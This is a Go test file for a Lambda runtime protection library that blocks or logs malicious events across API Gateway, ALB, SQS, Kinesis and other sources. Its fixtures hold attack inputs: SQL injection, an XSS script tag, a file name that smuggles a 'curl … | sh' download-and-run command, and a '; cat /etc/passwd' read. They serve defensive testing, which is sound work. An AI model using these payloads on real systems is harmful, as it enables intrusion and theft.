package protect

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"log/slog"
	"strings"
	"sync"
	"testing"

	"github.com/aws/aws-lambda-go/events"
	"github.com/aws/aws-lambda-go/lambda"
	"github.com/aws/aws-lambda-go/lambda/messages"
	"github.com/aws/aws-lambda-go/lambdacontext"
)

var (
	sharedOnce sync.Once
	shared     *Inspector
	sharedErr  error
)

// testHandler wraps next with a handler that shares one compiled engine
// across tests; opts change only what the engine does not depend on.
func testHandler(t *testing.T, next lambda.Handler, logs *bytes.Buffer, opts ...Option) *handler {
	t.Helper()
	sharedOnce.Do(func() { shared, sharedErr = newInspectorForTest() })
	if sharedErr != nil {
		t.Fatal(sharedErr)
	}
	cfg, err := newConfig(func(string) string { return "" }, opts)
	if err != nil {
		t.Fatal(err)
	}
	if logs != nil {
		cfg.logger = slog.New(slog.NewJSONHandler(logs, nil))
	}
	return &handler{next: next, in: &Inspector{cfg: cfg, engine: shared.engine}}
}

func newInspectorForTest() (*Inspector, error) {
	cfg, err := newConfig(func(string) string { return "" }, nil)
	if err != nil {
		return nil, err
	}
	return newInspector(cfg)
}

// recorder is a lambda.Handler that remembers what it was given.
type recorder struct {
	calls    int
	payloads [][]byte
	out      []byte
	err      error
}

func (r *recorder) Invoke(_ context.Context, p []byte) ([]byte, error) {
	r.calls++
	r.payloads = append(r.payloads, append([]byte(nil), p...))
	return r.out, r.err
}

func invokeCtx() context.Context {
	return lambdacontext.NewContext(context.Background(), &lambdacontext.LambdaContext{AwsRequestID: "req-1"})
}

const forbiddenBody = `"body":"{\"message\":\"Forbidden\",\"requestId\":\"req-1\"}","isBase64Encoded":false}`

func TestHTTPBlockResponses(t *testing.T) {
	attackQuery := "id=1%27%20UNION%20SELECT%20password%20FROM%20users--"
	cases := []struct {
		name, event, want string
	}{
		{"apigw-http",
			`{"version":"2.0","rawPath":"/p","rawQueryString":"` + attackQuery + `","headers":{"host":"x.example.com","user-agent":"curl/8","accept":"*/*"},"requestContext":{"domainName":"x.example.com","http":{"method":"GET","path":"/p","protocol":"HTTP/1.1","sourceIp":"203.0.113.1"}}}`,
			`{"statusCode":403,"headers":{"Content-Type":"application/json"},` + forbiddenBody},
		{"function-url",
			`{"version":"2.0","rawPath":"/p","rawQueryString":"` + attackQuery + `","headers":{"host":"abc.lambda-url.eu-west-1.on.aws","user-agent":"curl/8","accept":"*/*"},"requestContext":{"domainName":"abc.lambda-url.eu-west-1.on.aws","http":{"method":"GET","path":"/p","protocol":"HTTP/1.1","sourceIp":"203.0.113.1"}}}`,
			`{"statusCode":403,"headers":{"Content-Type":"application/json"},` + forbiddenBody},
		{"apigw-rest",
			`{"resource":"/p","path":"/p","httpMethod":"GET","headers":{"Host":"x.example.com","User-Agent":"curl/8","Accept":"*/*"},"queryStringParameters":{"id":"1' UNION SELECT password FROM users--"},"requestContext":{"httpMethod":"GET","identity":{"sourceIp":"203.0.113.1"}}}`,
			`{"statusCode":403,"headers":{"Content-Type":"application/json"},` + forbiddenBody},
		{"alb",
			`{"requestContext":{"elb":{"targetGroupArn":"arn"}},"httpMethod":"GET","path":"/p","queryStringParameters":{"id":"1%27%20UNION%20SELECT%20password%20FROM%20users--"},"headers":{"host":"x.example.com","user-agent":"curl/8","accept":"*/*"},"body":"","isBase64Encoded":false}`,
			`{"statusCode":403,"statusDescription":"403 Forbidden","headers":{"Content-Type":"application/json"},` + forbiddenBody},
		{"alb multi-value",
			`{"requestContext":{"elb":{"targetGroupArn":"arn"}},"httpMethod":"GET","path":"/p","multiValueQueryStringParameters":{"id":["1%27%20UNION%20SELECT%20password%20FROM%20users--"]},"multiValueHeaders":{"host":["x.example.com"],"user-agent":["curl/8"],"accept":["*/*"]},"body":"","isBase64Encoded":false}`,
			`{"statusCode":403,"statusDescription":"403 Forbidden","multiValueHeaders":{"Content-Type":["application/json"]},` + forbiddenBody},
		{"apigw-websocket",
			`{"requestContext":{"routeKey":"sendmessage","eventType":"MESSAGE","connectionId":"c1","domainName":"ws.example.com","identity":{"sourceIp":"203.0.113.1"}},"body":"{\"action\":\"sendmessage\",\"data\":\"<script>alert(1)</script>\"}","isBase64Encoded":false}`,
			`{"statusCode":403,"headers":{"Content-Type":"application/json"},` + forbiddenBody},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			next := &recorder{}
			h := testHandler(t, next, &bytes.Buffer{})
			out, err := h.Invoke(invokeCtx(), []byte(c.event))
			if err != nil {
				t.Fatal(err)
			}
			if string(out) != c.want {
				t.Fatalf("response\n got %s\nwant %s", out, c.want)
			}
			if next.calls != 0 {
				t.Fatal("handler ran on a blocked request")
			}
		})
	}
}

func sqsRecord(id, body string) string {
	b, _ := json.Marshal(body)
	return `{"messageId":"` + id + `","receiptHandle":"rh","body":` + string(b) + `,"attributes":{},"messageAttributes":{},"eventSource":"aws:sqs","eventSourceARN":"arn:aws:sqs:eu-west-1:1:q"}`
}

const cleanBody = `{"file":"invoice.pdf","customer":"O'Reilly"}`
const evilBody = `{"file":"invoice.pdf; curl -s http://203.0.113.66/x.sh | sh"}`

func TestPartialBatch(t *testing.T) {
	r0, r1, r2 := sqsRecord("m0", cleanBody), sqsRecord("m1", evilBody), sqsRecord("m2", cleanBody)
	event := `{"Records": [` + r0 + `, ` + r1 + `, ` + r2 + `]}`
	next := &recorder{out: []byte(`{"batchItemFailures":[{"itemIdentifier":"m2"}]}`)}
	h := testHandler(t, next, &bytes.Buffer{}, WithPartialBatch(true))
	out, err := h.Invoke(invokeCtx(), []byte(event))
	if err != nil {
		t.Fatal(err)
	}
	if want := `{"batchItemFailures":[{"itemIdentifier":"m2"},{"itemIdentifier":"m1"}]}`; string(out) != want {
		t.Fatalf("response\n got %s\nwant %s", out, want)
	}
	if want := `{"Records": [` + r0 + `,` + r2 + `]}`; next.calls != 1 || string(next.payloads[0]) != want {
		t.Fatalf("handler got\n%s\nwant\n%s", next.payloads, want)
	}
	var ev events.SQSEvent
	if err := json.Unmarshal(next.payloads[0], &ev); err != nil || len(ev.Records) != 2 {
		t.Fatalf("handler's event does not decode to 2 records: %v %+v", err, ev)
	}
}

func TestPartialBatchHandlerReturnsNothing(t *testing.T) {
	event := `{"Records":[` + sqsRecord("m0", evilBody) + `,` + sqsRecord("m1", cleanBody) + `]}`
	// events.SQSEventResponse{} encodes its nil slice as null.
	for _, out := range []string{"null", "", `{}`, `"ok"`, `{"batchItemFailures":null}`, `{"batchItemFailures":{"itemIdentifier":"m1"}}`} {
		next := &recorder{out: []byte(out)}
		h := testHandler(t, next, &bytes.Buffer{}, WithPartialBatch(true))
		got, err := h.Invoke(invokeCtx(), []byte(event))
		if err != nil {
			t.Fatal(err)
		}
		if want := `{"batchItemFailures":[{"itemIdentifier":"m0"}]}`; string(got) != want {
			t.Fatalf("handler output %q: got %s want %s", out, got, want)
		}
	}
}

func TestPartialBatchAllBlocked(t *testing.T) {
	event := `{"Records":[` + sqsRecord("m0", evilBody) + `,` + sqsRecord("m1", evilBody) + `]}`
	next := &recorder{}
	h := testHandler(t, next, &bytes.Buffer{}, WithPartialBatch(true))
	got, err := h.Invoke(invokeCtx(), []byte(event))
	if err != nil || next.calls != 0 {
		t.Fatalf("err %v, handler calls %d", err, next.calls)
	}
	if want := `{"batchItemFailures":[{"itemIdentifier":"m0"},{"itemIdentifier":"m1"}]}`; string(got) != want {
		t.Fatalf("got %s want %s", got, want)
	}
}

func TestPartialBatchHandlerError(t *testing.T) {
	event := `{"Records":[` + sqsRecord("m0", evilBody) + `,` + sqsRecord("m1", cleanBody) + `]}`
	boom := errors.New("boom")
	h := testHandler(t, &recorder{err: boom}, &bytes.Buffer{}, WithPartialBatch(true))
	if _, err := h.Invoke(invokeCtx(), []byte(event)); !errors.Is(err, boom) {
		t.Fatalf("handler error lost: %v", err)
	}
}

func TestBatchWithoutPartialFailsInvocation(t *testing.T) {
	event := `{"Records":[` + sqsRecord("m0", cleanBody) + `,` + sqsRecord("m1", evilBody) + `]}`
	next := &recorder{}
	h := testHandler(t, next, &bytes.Buffer{})
	_, err := h.Invoke(invokeCtx(), []byte(event))
	if !IsBlocked(err) || next.calls != 0 {
		t.Fatalf("want a lambdarasp.Blocked error and no handler call; got %v, %d calls", err, next.calls)
	}
	// The rule list is CRS's business; the shape of the message is ours.
	if msg := err.(messages.InvokeResponse_Error).Message; !strings.HasPrefix(msg, "lambdarasp: event blocked (source sqs, rules 9") || !strings.HasSuffix(msg, ", records 1)") {
		t.Fatalf("error %q", msg)
	}
	if strings.Contains(err.Error(), "curl") {
		t.Fatal("error message echoes the payload")
	}
}

func TestFirehoseProcessingFailed(t *testing.T) {
	rec := func(id, data string) string {
		return `{"recordId":"` + id + `","approximateArrivalTimestamp":1,"data":"` + data + `"}`
	}
	// base64 of {"q":"1' UNION SELECT password FROM users--"} and of {"q":"ok"}
	evil := "eyJxIjoiMScgVU5JT04gU0VMRUNUIHBhc3N3b3JkIEZST00gdXNlcnMtLSJ9"
	ok := "eyJxIjoib2sifQ=="
	event := `{"invocationId":"i","deliveryStreamArn":"arn:aws:firehose:eu-west-1:1:deliverystream/s","region":"eu-west-1","records":[` + rec("r0", ok) + `,` + rec("r1", evil) + `]}`
	next := &recorder{out: []byte(`{"records":[{"recordId":"r0","result":"Ok","data":"` + ok + `"}]}`)}
	h := testHandler(t, next, &bytes.Buffer{})
	out, err := h.Invoke(invokeCtx(), []byte(event))
	if err != nil {
		t.Fatal(err)
	}
	want := `{"records":[{"recordId":"r0","result":"Ok","data":"` + ok + `"},{"recordId":"r1","result":"ProcessingFailed","data":"` + evil + `"}]}`
	if string(out) != want {
		t.Fatalf("got %s\nwant %s", out, want)
	}
	if next.calls != 1 || strings.Contains(string(next.payloads[0]), `"r1"`) {
		t.Fatalf("handler saw the blocked record: %s", next.payloads)
	}
}

func TestAsyncSourcesFailWithBlockedError(t *testing.T) {
	cases := map[string]string{
		"sns":         `{"Records":[{"EventSource":"aws:sns","Sns":{"Subject":"s","Message":"1' UNION SELECT password FROM users--","MessageAttributes":{}}}]}`,
		"s3":          `{"Records":[{"eventSource":"aws:s3","s3":{"object":{"key":"a%3Bcurl+x%7Csh.jpg"}}}]}`,
		"eventbridge": `{"version":"0","detail-type":"t","source":"s","detail":{"q":"<script>alert(1)</script>"}}`,
		"direct":      `{"cmd":"; cat /etc/passwd"}`,
	}
	for name, event := range cases {
		t.Run(name, func(t *testing.T) {
			next := &recorder{}
			_, err := testHandler(t, next, &bytes.Buffer{}).Invoke(invokeCtx(), []byte(event))
			if !IsBlocked(err) || next.calls != 0 {
				t.Fatalf("got %v, %d handler calls", err, next.calls)
			}
		})
	}
}

func TestCleanEventPassesUntouched(t *testing.T) {
	event := []byte(`{"Records":[` + sqsRecord("m0", cleanBody) + `]}`)
	next := &recorder{out: []byte(`"done"`)}
	var logs bytes.Buffer
	out, err := testHandler(t, next, &logs).Invoke(invokeCtx(), event)
	if err != nil || string(out) != `"done"` {
		t.Fatalf("got %s, %v", out, err)
	}
	if !bytes.Equal(next.payloads[0], event) {
		t.Fatal("clean payload was changed")
	}
	if logs.Len() != 0 {
		t.Fatalf("clean event logged: %s", logs.String())
	}
}

func TestDetectModeRunsHandlerAndLogs(t *testing.T) {
	event := []byte(`{"Records":[` + sqsRecord("m0", evilBody) + `]}`)
	next := &recorder{out: []byte(`null`)}
	var logs bytes.Buffer
	out, err := testHandler(t, next, &logs, WithMode(Detect)).Invoke(invokeCtx(), event)
	if err != nil || string(out) != "null" || !bytes.Equal(next.payloads[0], event) {
		t.Fatalf("detect mode changed the invocation: %s %v", out, err)
	}
	var line struct {
		Msg, RequestID, Source, Action string
		Findings                       []Finding
		BlockedRecords                 []int `json:"blocked_records"`
	}
	if err := json.Unmarshal(logs.Bytes(), &line); err != nil {
		t.Fatalf("log line %q: %v", logs.String(), err)
	}
	if line.Msg != "lambdarasp finding" || line.Source != "sqs" || line.Action != "detect" || len(line.Findings) == 0 || line.Findings[0].Path != "Records[0].body.file" {
		t.Fatalf("log line %s", logs.String())
	}
	if !strings.Contains(logs.String(), `"request_id":"req-1"`) {
		t.Fatalf("no request id in %s", logs.String())
	}
	if strings.Contains(logs.String(), "curl") || strings.Contains(logs.String(), "snippet") {
		t.Fatalf("log carries payload data: %s", logs.String())
	}
}

func TestLogSnippetsAreShortAndSanitised(t *testing.T) {
	long := `{"file":"; cat /etc/passwd \u001b[31m ` + strings.Repeat("A", 200) + `"}`
	event := []byte(`{"Records":[` + sqsRecord("m0", long) + `]}`)
	var logs bytes.Buffer
	_, _ = testHandler(t, &recorder{}, &logs, WithLogSnippets(true)).Invoke(invokeCtx(), event)
	if !strings.Contains(logs.String(), `"snippet":`) || strings.Contains(logs.String(), "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA") || strings.Contains(logs.String(), `\u001b`) {
		t.Fatalf("snippet not bounded or not sanitised: %s", logs.String())
	}
}

func TestFailOpenAndClosed(t *testing.T) {
	event := []byte(`{"Records":[` + sqsRecord("m0", cleanBody) + `]}`)
	broken := func(failClosed bool, next lambda.Handler, logs *bytes.Buffer) *handler {
		cfg, _ := newConfig(func(string) string { return "" }, []Option{WithFailClosed(failClosed)})
		cfg.logger = slog.New(slog.NewJSONHandler(logs, nil))
		return &handler{next: next, in: &Inspector{cfg: cfg}} // nil engine: inspection panics
	}
	var logs bytes.Buffer
	next := &recorder{out: []byte("null")}
	if _, err := broken(false, next, &logs).Invoke(invokeCtx(), event); err != nil || next.calls != 1 {
		t.Fatalf("fail-open: %v, %d calls", err, next.calls)
	}
	if !strings.Contains(logs.String(), "lambdarasp inspection failed") {
		t.Fatalf("failure not logged: %s", logs.String())
	}
	next = &recorder{}
	if _, err := broken(true, next, &logs).Invoke(invokeCtx(), event); !IsBlocked(err) || next.calls != 0 {
		t.Fatalf("fail-closed: %v, %d calls", err, next.calls)
	}
}

func TestHandlerPanicsPropagate(t *testing.T) {
	h := testHandler(t, lambda.NewHandler(func() error { panic("user bug") }), &bytes.Buffer{})
	defer func() {
		if r := recover(); r != "user bug" {
			t.Fatalf("recovered %v", r)
		}
	}()
	_, _ = h.Invoke(invokeCtx(), []byte(`{}`))
	t.Fatal("panic swallowed")
}

func TestHandlerShapes(t *testing.T) {
	t.Setenv("LAMBDARASP_MODE", "detect")
	shapes := []any{
		func() {},
		func() error { return nil },
		func(ctx context.Context, e events.SQSEvent) (events.SQSEventResponse, error) {
			return events.SQSEventResponse{}, nil
		},
		func(e map[string]any) (string, error) { return "ok", nil },
		lambda.NewHandler(func() {}),
	}
	for _, s := range shapes {
		if _, err := Handler(s).Invoke(invokeCtx(), []byte(`{"Records":[]}`)); err != nil {
			t.Fatalf("%T: %v", s, err)
		}
	}
}

func TestConfigFromEnv(t *testing.T) {
	cases := []struct {
		env     map[string]string
		wantErr string
	}{
		{map[string]string{"LAMBDARASP_MODE": "blok"}, `LAMBDARASP_MODE="blok": want block, detect or off`},
		{map[string]string{"LAMBDARASP_PARANOIA": "5"}, "paranoia level 5: want 1 to 4"},
		{map[string]string{"LAMBDARASP_PARANOIA": "x"}, `LAMBDARASP_PARANOIA="x": want a whole number`},
		{map[string]string{"LAMBDARASP_PARTIAL_BATCH": "yes"}, `LAMBDARASP_PARTIAL_BATCH="yes": want true or false`},
		{map[string]string{"LAMBDARASP_FAIL": "shut"}, `LAMBDARASP_FAIL="shut": want open or closed`},
		{map[string]string{"LAMBDARASP_ENGINE": "slow"}, `LAMBDARASP_ENGINE="slow": want fast or reference`},
		{map[string]string{"LAMBDARASP_EXCLUDE": "abc"}, `LAMBDARASP_EXCLUDE entry "abc"`},
		{map[string]string{"LAMBDARASP_EXCLUDE": "942100@a b"}, `exclusion path "a b"`},
		{map[string]string{"LAMBDARASP_MODE": "Detect", "LAMBDARASP_PARANOIA": "2", "LAMBDARASP_EXCLUDE": "942100, 941100@body.bio",
			"LAMBDARASP_FAIL": "Closed", "LAMBDARASP_ENGINE": "reference"}, ""},
	}
	for _, c := range cases {
		cfg, err := newConfig(func(k string) string { return c.env[k] }, []Option{WithMode(Block)})
		switch {
		case c.wantErr == "" && err != nil:
			t.Fatalf("%v: %v", c.env, err)
		case c.wantErr != "" && (err == nil || !strings.Contains(err.Error(), c.wantErr)):
			t.Fatalf("%v: error %v, want %q", c.env, err, c.wantErr)
		}
		if c.wantErr == "" && (cfg.mode != Detect || cfg.paranoia != 2 || len(cfg.exclusions) != 2 || !cfg.failClosed || !cfg.reference) {
			t.Fatalf("env did not override options: %+v", cfg)
		}
	}
}

func TestInvalidConfigPanicsAtInit(t *testing.T) {
	t.Setenv("LAMBDARASP_MODE", "blok")
	defer func() {
		if r := recover(); r == nil || !strings.Contains(r.(string), "LAMBDARASP_MODE") {
			t.Fatalf("recovered %v", r)
		}
	}()
	Handler(func() {})
}

func TestPartialBatchStreams(t *testing.T) {
	evil := b64(`{"q":"1' UNION SELECT password FROM users--"}`)
	ok := b64(`{"q":"fine"}`)
	cases := map[string]struct{ event, want string }{
		"kinesis": {
			`{"Records":[{"eventSource":"aws:kinesis","kinesis":{"sequenceNumber":"s0","partitionKey":"p","data":"` + ok + `"}},` +
				`{"eventSource":"aws:kinesis","kinesis":{"sequenceNumber":"s1","partitionKey":"p","data":"` + evil + `"}}]}`,
			`{"batchItemFailures":[{"itemIdentifier":"s1"}]}`,
		},
		"dynamodb": {
			`{"Records":[{"eventSource":"aws:dynamodb","dynamodb":{"SequenceNumber":"d0","NewImage":{"q":{"S":"1' UNION SELECT password FROM users--"}}}},` +
				`{"eventSource":"aws:dynamodb","dynamodb":{"SequenceNumber":"d1","NewImage":{"q":{"S":"fine"}}}}]}`,
			`{"batchItemFailures":[{"itemIdentifier":"d0"}]}`,
		},
	}
	for name, c := range cases {
		t.Run(name, func(t *testing.T) {
			next := &recorder{out: []byte("null")}
			out, err := testHandler(t, next, &bytes.Buffer{}, WithPartialBatch(true)).Invoke(invokeCtx(), []byte(c.event))
			if err != nil || string(out) != c.want {
				t.Fatalf("got %s, %v; want %s", out, err, c.want)
			}
			if next.calls != 1 || strings.Contains(string(next.payloads[0]), "UNION") || strings.Contains(string(next.payloads[0]), evil) {
				t.Fatalf("handler saw the blocked record: %s", next.payloads)
			}
		})
	}
}
